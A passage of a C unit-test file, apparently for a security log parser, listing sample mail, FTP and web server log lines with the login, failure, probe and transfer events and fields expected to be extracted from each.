	  F(NETWORK_PROTOCOL, "pop3"), F(SOURCE_IP, "192.168.100.1") } },
	{ "Jun 23 12:34:00 bsite popper[13]: -ERR Password supplied for \"bob\" is incorrect.",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob") } },
	{ "Jun 23 12:34:00 bsite popper[13]: bob at dialup.example.net (192.0.2.50): -ERR Password supplied for \"bob\" is incorrect.",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: lisa at dialup.example.net (192.0.2.50): -ERR [AUTH] Password supplied for \"lisa\" is incorrect.",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "lisa"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: bob@dialup.example.net: -ERR POP EOF received",
	  "mailbox", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: @dialup.example.net: -ERR Unknown command: \"xxxxxxxx\".",
	  "mailbox", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "pop3"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: Stats: bob 0 0 0 0 dialup.example.net 192.0.2.50",
	  "mailbox", { ACT("session-closed", "success"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: (v4.0.5) POP login by user \"bob\" at (dialup.example.net) 192.0.2.50",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite popper[13]: (v4.0.5) Servicing request from \"dialup.example.net\" at 192.0.2.50",
	  "mailbox", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "pop3"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite cucipop[2]: authentication failure bob 192.0.2.50",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
};

static const struct tcase uw_forms[] = {
	{ "Jun 23 12:34:00 bsite ipop3d[14]: Login failed user=bob auth=bob host=dialup.example.net [192.0.2.50]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Login failed user=XYZ auth=XYZ host=XYZ [2001:db8::a11:beef:7ac0]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(USER_NAME, "XYZ"), F(SOURCE_IP, "2001:db8::a11:beef:7ac0"),
	  F(SOURCE_DOMAIN, "XYZ") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: Login user=bob host=dialup.example.net [192.0.2.50]",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: Authenticated user=bob host=dialup.example.net [192.0.2.50] mech=PLAIN",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: AUTHENTICATE LOGIN failure host=dialup.example.net [192.0.2.50]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite in.imapd[14]: Command stream end of file while reading line user=??? host=scan.example [192.0.2.66]",
	  "mailbox", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "192.0.2.66"),
	  F(SOURCE_DOMAIN, "scan.example") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: Unexpected client disconnect, while reading line user=bob host=[192.0.2.50]",
	  "mailbox", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: Logout user=bob host=dialup.example.net [192.0.2.50]",
	  "mailbox", { ACT("session-closed", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite ipop3d[14]: Login disabled user=root auth=root host=localhost [127.0.0.1]",
	  "mailbox", { ACT("logon-refused", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "root"),
	  F(SOURCE_IP, "127.0.0.1"), F(SOURCE_DOMAIN, "localhost") } },
	{ "Jun 23 12:34:00 bsite imapd[14]: imap service init from 192.0.2.50",
	  "mailbox", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "192.0.2.50") } },
};

static const struct tcase dovecot_forms[] = {
	{ "Jun 23 12:34:00 bsite dovecot: imap-login: Disconnected (auth failed, 3 attempts in 15 secs): user=<bob>, method=PLAIN, rip=192.0.2.50, lip=192.0.2.1, TLS, session=<abc>",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(DESTINATION_IP, "192.0.2.1") } },
	{ "Jun 23 12:34:00 bsite dovecot: pop3-login: Aborted login (auth failed, 1 attempts in 2 secs): user=<bob>, method=PLAIN, rip=::ffff:192.0.2.50, lip=192.0.2.1",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(DESTINATION_IP, "192.0.2.1") } },
	{ "imap-login: Aborted login (auth failed, 6 attempts): XYZ rip=6.6.6.0, lip=127.0.0.1",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "6.6.6.0"),
	  F(DESTINATION_IP, "127.0.0.1") } },
	{ "2019-10-15 08:08:52 imap-login: Info: Disconnected (auth failed, 1 attempts in 2 secs): user=<test>, method=PLAIN, rip=172.21.0.1, lip=172.21.0.3, TLS, session=<1MyTfu0USIqsFQAB>",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "test"),
	  F(SOURCE_IP, "172.21.0.1"), F(DESTINATION_IP, "172.21.0.3") } },
	{ "submission-login: Disconnected: Aborted login by logging out (auth failed, 1 attempts in 2 secs): user=<sarah>, method=LOGIN, rip=1.2.3.4, lip=1.1.1.1, TLS, session=<cIMEtT/mtP8tfUIY>",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "smtp"), F(USER_NAME, "sarah"),
	  F(SOURCE_IP, "1.2.3.4"), F(DESTINATION_IP, "1.1.1.1") } },
	{ "Jun 23 12:34:00 bsite dovecot: imap-login: Login aborted: Connection closed (auth failed, 3 attempts in 15 secs) (auth_failed): user=<bob>, method=PLAIN, rip=192.0.2.50, lip=192.0.2.1, session=<x>",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(DESTINATION_IP, "192.0.2.1") } },
	{ "Jun 23 12:34:00 bsite dovecot: imap-login: Login: user=<bob>, method=PLAIN, rip=192.0.2.50, lip=192.0.2.1, mpid=123, TLS, session=<abc>",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(DESTINATION_IP, "192.0.2.1") } },
	{ "Jun 23 12:34:00 bsite imap-login: Info: Login: user=<bob>, method=PLAIN, rip=192.0.2.50, lip=192.0.2.1, rport=5555, lport=143",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_PORT, "5555"),
	  F(DESTINATION_IP, "192.0.2.1"), F(DESTINATION_PORT, "143") } },
	{ "Jun 23 12:34:00 bsite dovecot: imap-login: Disconnected (no auth attempts in 0 secs): user=<>, rip=192.0.2.66, lip=192.0.2.1, session=<abc>",
	  "mailbox", { ACT("probe", "unknown"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "192.0.2.66"),
	  F(DESTINATION_IP, "192.0.2.1") } },
	{ "Jun 23 12:34:00 bsite dovecot: pop3-login: Disconnected (tried to use disallowed plaintext auth): user=<>, rip=192.0.2.66, lip=192.0.2.1",
	  "mailbox", { ACT("logon-refused", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(SOURCE_IP, "192.0.2.66"),
	  F(DESTINATION_IP, "192.0.2.1") } },
	{ "Jun 23 12:34:00 bsite dovecot: auth-worker(1234): pam(admin,192.0.2.66,<sess>): unknown user",
	  "mailbox", { ACT("invalid-user", "failure"),
	  F(USER_NAME, "admin"), F(SOURCE_IP, "192.0.2.66") } },
	{ "Jun 23 12:34:00 bsite dovecot: auth-worker(1234): Info: pam(admin,192.0.2.66): pam_authenticate() failed: Authentication failure (password mismatch?)",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(USER_NAME, "admin"), F(SOURCE_IP, "192.0.2.66") } },
	{ "Jun 23 12:34:00 bsite dovecot: auth: passwd-file(bob,2001:db8::5): Password mismatch",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(USER_NAME, "bob"), F(SOURCE_IP, "2001:db8::5") } },
};

static const struct tcase courier_cyrus_forms[] = {
	{ "Jun 24 15:34:21 mail imapd: LOGIN FAILED, user=fakeemail@example.com, ip=[::ffff:121.226.61.81]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "fakeemail@example.com"),
	  F(SOURCE_IP, "121.226.61.81") } },
	{ "Jun 24 11:53:25 mail pop3d: LOGIN FAILED, user=britton, ip=[2001:470:df49:2:9df9:4e98:31e1:1720]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "britton"),
	  F(SOURCE_IP, "2001:470:df49:2:9df9:4e98:31e1:1720") } },
	{ "Nov 20 04:12:45 mail imapd-ssl[20815]: LOGIN FAILED, method=PLAIN, ip=[::ffff:177.19.165.26]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "177.19.165.26") } },
	{ "Jun 23 12:34:00 bsite courierpop3login: LOGIN, user=bob, ip=[::ffff:192.0.2.50], port=[40000], protocol=POP3",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_PORT, "40000") } },
	{ "Jun 23 12:34:00 bsite imapd: Connection, ip=[::ffff:192.0.2.50]",
	  "mailbox", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "imap"), F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite imapd: LOGOUT, user=bob, ip=[::ffff:192.0.2.50], headers=0, body=0, rcvd=0, sent=0, time=0",
	  "mailbox", { ACT("session-closed", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Oct 29 18:51:24 mailsrv imaps[79980]: badlogin: [192.168.1.1] CRAM-MD5 (testbox@domain) [SASL(-13): authentication failure: incorrect digest response]",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "testbox@domain"),
	  F(SOURCE_IP, "192.168.1.1") } },
	{ "Jun 23 12:34:00 bsite pop3s[2]: badlogin: host.example [192.0.2.50] plaintext bob SASL(-13): authentication failure: checkpass failed",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "pop3"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "host.example") } },
	{ "badlogin: XYZ [6.6.6.0] XYZ SASL XYZ checkpass failed",
	  "mailbox", { ACT("logon-failed", "failure"),
	  F(SOURCE_IP, "6.6.6.0"), F(SOURCE_DOMAIN, "XYZ") } },
	{ "Jun 23 12:34:00 bsite imaps[2]: login: host.example [192.0.2.50] bob plaintext User logged in SESSIONID=<x>",
	  "mailbox", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "imap"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "host.example") } },
};

static void
test_mailbox(void **state)
{
	(void)state;
	CHECK_ALL(popper_forms);
	CHECK_ALL(uw_forms);
	CHECK_ALL(dovecot_forms);
	CHECK_ALL(courier_cyrus_forms);
}

/* ---- FTP -------------------------------------------------------------- */

static const struct tcase ftp_forms[] = {
	{ "Jun 23 12:34:00 bsite wu-ftpd[1]: FTP LOGIN FROM dialup.example.net [192.0.2.50], bob",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: FAILED LOGIN 2 FROM dialup.example.net [192.0.2.50], root",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "root"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite in.ftpd[1]: FTP LOGIN REFUSED (username in /etc/ftpusers) FROM dialup.example.net [192.0.2.50], root",
	  "ftpd", { ACT("logon-refused", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "root"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: ANONYMOUS FTP LOGIN FROM dialup.example.net [192.0.2.50], mozilla@",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "anonymous"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "FTP LOGIN FAILED FROM 6.6.6.0, XYZ",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "XYZ"),
	  F(SOURCE_IP, "6.6.6.0") } },
	{ "FTP LOGIN FAILED FROM 2001:db8::a11:beef:7ac0, XYZ",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "XYZ"),
	  F(SOURCE_IP, "2001:db8::a11:beef:7ac0") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: FTP LOGIN FROM host.example as bob (class: real, type: REAL)",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: repeated login failures from host.example [192.0.2.50]",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: connection from host.example (192.0.2.50)",
	  "ftpd", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: lost connection to host.example [192.0.2.50]",
	  "ftpd", { ACT("disconnect", "unknown"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "host.example") } },
	{ "Jun 23 12:34:00 bsite ftpd[1]: FTP session closed",
	  "ftpd", { ACT("session-closed", "success"),
	  F(NETWORK_PROTOCOL, "ftp") } },
	/* vsftpd: syslog, its own log (framed as a ctime stamp), sshguard's */
	{ "Jun 23 12:34:00 bsite vsftpd[1]: [bob] FAIL LOGIN: Client \"192.0.2.50\"",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite vsftpd[1]: [ftp] OK LOGIN: Client \"::ffff:192.0.2.50\", anon password \"x@\"",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "ftp"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite vsftpd[1]: [pid 12] CONNECT: Client \"192.0.2.50\"",
	  "ftpd", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite vsftpd[1]: [bob] OK UPLOAD: Client \"192.0.2.50\", \"/home/bob/x.tar\", 1234 bytes, 5.6Kbyte/sec",
	  "ftpd", { ACT("ftp-transfer", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(URL_ORIGINAL, "/home/bob/x.tar") } },
	{ "Mon Jan 20 12:58:29 2003 [pid 1234] [bob] FAIL LOGIN: Client \"192.0.2.50\"",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "XYZ FAIL LOGIN: Client \"2001:db8::a11:beef:7ac0\"",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "XYZ"),
	  F(SOURCE_IP, "2001:db8::a11:beef:7ac0") } },
	/* ProFTPD */
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (dialup.example.net[192.0.2.50]) - USER bob (Login failed): Incorrect password.",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (dialup.example.net[192.0.2.50]) - USER nobody: no such user found from dialup.example.net [192.0.2.50] to 192.0.2.1:21",
	  "ftpd", { ACT("invalid-user", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "nobody"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (dialup.example.net[192.0.2.50]) - USER bob: Login successful.",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (dialup.example.net[192.0.2.50]) - FTP session opened.",
	  "ftpd", { ACT("session-opened", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (192.0.2.50[192.0.2.50]) - SECURITY VIOLATION: root login attempted.",
	  "ftpd", { ACT("logon-refused", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "root"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite proftpd[1]: srv.example (dialup.example.net[192.0.2.50]) - Maximum login attempts (3) exceeded",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(SOURCE_DOMAIN, "dialup.example.net") } },
	{ "foo.com (foo.com [6.6.6.0]) XYZ no such user XYZ",
	  "ftpd", { ACT("invalid-user", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "6.6.6.0"),
	  F(SOURCE_DOMAIN, "foo.com") } },
	/* Pure-FTPd */
	{ "Jun 23 12:34:00 bsite pure-ftpd: (?@192.0.2.50) [WARNING] Authentication failed for user [bob]",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "(XYZ@2001:db8::a11:beef:7ac0) [WARNING] Authentication failed for user XYZ",
	  "ftpd", { ACT("logon-failed", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "XYZ"),
	  F(SOURCE_IP, "2001:db8::a11:beef:7ac0") } },
	{ "Jun 23 12:34:00 bsite pure-ftpd: (?@host.example) [INFO] New connection from host.example",
	  "ftpd", { ACT("connection", "unknown"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_DOMAIN, "host.example") } },
	{ "Jun 23 12:34:00 bsite pure-ftpd: (bob@192.0.2.50) [INFO] bob is now logged in",
	  "ftpd", { ACT("logon", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50") } },
	{ "Jun 23 12:34:00 bsite pure-ftpd: (bob@192.0.2.50) [NOTICE] /home/bob//x.tar uploaded  (1234 bytes, 5.6KB/sec)",
	  "ftpd", { ACT("ftp-transfer", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(USER_NAME, "bob"),
	  F(SOURCE_IP, "192.0.2.50"), F(URL_ORIGINAL, "/home/bob//x.tar") } },
};

static const struct tcase xferlog_forms[] = {
	{ "Mon Jan 20 12:58:29 2003 1 dialup.example.net 1234 /pub/x.tar.gz b _ o a guest@ ftp 0 * c",
	  "ftpd", { ACT("ftp-transfer", "success"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_DOMAIN, "dialup.example.net"),
	  F(URL_ORIGINAL, "/pub/x.tar.gz"), F(USER_NAME, "guest@") } },
	{ "Mon Jan 20 12:58:29 2003 3 192.0.2.50 99 /incoming/my file.txt a _ i r bob ftp 0 * i",
	  "ftpd", { ACT("ftp-transfer", "failure"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(URL_ORIGINAL, "/incoming/my file.txt"), F(USER_NAME, "bob") } },
	/* wu-ftpd before 2.6: no completion status */
	{ "Mon Jan 20 12:58:29 2003 3 192.0.2.50 99 /incoming/x a _ i r bob ftp 0 *",
	  "ftpd", { ACT("ftp-transfer", "unknown"),
	  F(NETWORK_PROTOCOL, "ftp"), F(SOURCE_IP, "192.0.2.50"),
	  F(URL_ORIGINAL, "/incoming/x"), F(USER_NAME, "bob") } },
};

static void
test_ftp(void **state)
{
	(void)state;
	CHECK_ALL(ftp_forms);
	CHECK_ALL(xferlog_forms);
}

/* ---- web -------------------------------------------------------------- */

static const struct tcase http_forms[] = {
	{ "192.0.2.7 - frank [10/Oct/2000:13:55:36 -0700] \"GET /cgi-bin/count.cgi?x=%2e%2e/%2e%2e HTTP/1.0\" 200 2326 \"-\" \"Mozilla/4.08\"",
	  "http", { ACT("http-request", "success"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "192.0.2.7"),
	  F(USER_NAME, "frank"), F(HTTP_REQUEST_METHOD, "GET"),
	  F(URL_ORIGINAL, "/cgi-bin/count.cgi?x=%2e%2e/%2e%2e"),
	  F(HTTP_RESPONSE_STATUS_CODE, "200") } },
	{ "10.42.42.39 - \"jeff\" [19/Apr/1943:03:14:13 +0000] \"GET /secret-base HTTP/1.1\" 401 356 \"EvilAgent/2.0\"",
	  "http", { ACT("http-request", "failure"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "10.42.42.39"),
	  F(USER_NAME, "jeff"), F(HTTP_REQUEST_METHOD, "GET"),
	  F(URL_ORIGINAL, "/secret-base"),
	  F(HTTP_RESPONSE_STATUS_CODE, "401") } },
	{ "2001:db8::a11:beef:7aa1 - - [19/Apr/1943:03:14:14 +0000] \"GET /roundcube HTTP/2.0\" 404 -",
	  "http", { ACT("http-request", "failure"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "2001:db8::a11:beef:7aa1"),
	  F(HTTP_REQUEST_METHOD, "GET"), F(URL_ORIGINAL, "/roundcube"),
	  F(HTTP_RESPONSE_STATUS_CODE, "404") } },
	{ "192.0.2.8 - - [10/Oct/2000:13:55:36 -0700] \"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\" 400 226 \"-\" \"-\"",
	  "http", { ACT("http-request", "failure"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "192.0.2.8"),
	  F(HTTP_RESPONSE_STATUS_CODE, "400") } },
	{ "192.0.2.8 - - [10/Oct/2000:13:55:36 -0700] \"-\" 400 0 \"-\" \"-\"",
	  "http", { ACT("http-request", "failure"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "192.0.2.8"),
	  F(HTTP_RESPONSE_STATUS_CODE, "400") } },
	{ "192.0.2.8 - - [10/Oct/2000:13:55:36 -0700] \"GET /\" 200 10",
	  "http", { ACT("http-request", "success"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "192.0.2.8"),
	  F(HTTP_REQUEST_METHOD, "GET"), F(URL_ORIGINAL, "/"),
	  F(HTTP_RESPONSE_STATUS_CODE, "200") } },
	{ "host.example.org - - [10/Oct/2000:13:55:36 -0700] \"GET /a\\\"b HTTP/1.1\" 404 10 \"-\" \"x\"",
	  "http", { ACT("http-request", "failure"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_DOMAIN, "host.example.org"),
	  F(HTTP_REQUEST_METHOD, "GET"), F(URL_ORIGINAL, "/a\\\"b"),
	  F(HTTP_RESPONSE_STATUS_CODE, "404") } },
	{ "127.1.2.3 - - [18/Jun/2020:16:05:21 +0200] \"POST /typo3/?loginProvider=1433416747 HTTP/2.0\" 302 3714 \"-\" \"Mozilla/5.0\" \"-\"",
	  "http", { ACT("http-request", "success"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "127.1.2.3"),
	  F(HTTP_REQUEST_METHOD, "POST"),
	  F(URL_ORIGINAL, "/typo3/?loginProvider=1433416747"),
	  F(HTTP_RESPONSE_STATUS_CODE, "302") } },
	{ "192.0.2.9 - - [20/Jan/2003:12:58:29 +0900] \"GET /x HTTP/1.1\" - -",
	  "http", { ACT("http-request", "unknown"),
	  F(NETWORK_PROTOCOL, "http"), F(SOURCE_IP, "192.0.2.9"),
	  F(HTTP_REQUEST_METHOD, "GET"), F(URL_ORIGINAL, "/x") } },
};

static void
test_http(void **state)
{
	(void)state;
	CHECK_ALL(http_forms);
}

/* ---- what must not be claimed ----------------------------------------- */

static void
test_negatives(void **state)
{
	static const char *const others[] = {
		/* other daemons, with a program and bare */
		"Jan 20 12:58:29 school sshd[399]: Failed password for root from 192.0.2.1 port 1234 ssh2",
		"Failed password for root from 192.0.2.1 port 1234 ssh2",
		"Jun 23 12:34:00 bsite telnetd[12]: connect from 192.168.100.1",
		"Jan  1 00:00:00 h in.telnetd[1]: connect from 192.0.2.1",
		"reverse mapping checking getaddrinfo for XYZ [6.6.6.0] XYZ POSSIBLE BREAK-IN ATTEMPT!",
		"authentication failure XYZ 6.6.6.0",
		"authenticator failed for XYZ [6.6.6.0]:14432 I=XYZ : 535 Incorrect authentication data (set_id=test)",
		"SMTP protocol error in \"AUTH LOGIN\" H=(XYZ) [6.6.6.0] AUTH command used when not advertised",
		"pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=webmaster@raffalli.eu rhost=80.94.95.229",
		"pam_unix(cockpit:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=172.22.10.15 user=jeff",
		"Jan  1 00:00:00 h su: FAILED SU (to root) bob on /dev/pts/0",
		"Jan  1 00:00:00 h rpc.statd[1]: gethostbyname error for ^X^X",
		"Jan  1 00:00:00 h named[1]: client 192.0.2.1#53: query (cache) 'x/A/IN' denied",
		"Jan  1 00:00:00 h kernel: Linux version 2.4.20",
